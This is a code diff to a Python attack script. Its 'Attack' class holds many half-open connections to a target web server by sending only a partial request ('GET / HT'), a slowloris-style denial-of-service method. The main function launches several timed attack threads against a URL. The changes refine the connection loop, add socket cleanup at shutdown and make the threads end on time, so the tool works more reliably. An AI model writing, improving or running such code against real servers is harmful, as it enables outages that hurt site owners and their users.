@@ -90,11 +90,12 @@ class Attack:
         while self.goes_on:
             with contextlib.suppress(OSError):
                 if len(lines) < HALF_OPEN // THREADS:
-                    line = self._connected()
-                    line.sendall(b"GET / HT")
-                    lines.append(line)
+                    lines.append(self._connected())
+                    lines[-1].sendall(b"GET / HT")
                     continue
             time.sleep(0.1)
+        for line in lines:
+            line.close()
 
     def _connected(self) -> socket.socket:
         place = self.parts.hostname or "", self.parts.port or 80
@@ -144,7 +145,9 @@ def main() -> None:
         attack = Attack(url, int(seed) + number, float(seconds), record)
         threads.append(threading.Thread(target=kinds(attack)[kind], daemon=True))
         threads[-1].start()
-    time.sleep(float(seconds) + 1)
+    ends = time.monotonic() + float(seconds) + 1
+    for thread in threads:
+        thread.join(max(0.0, ends - time.monotonic()))
 
 
 if __name__ == "__main__":
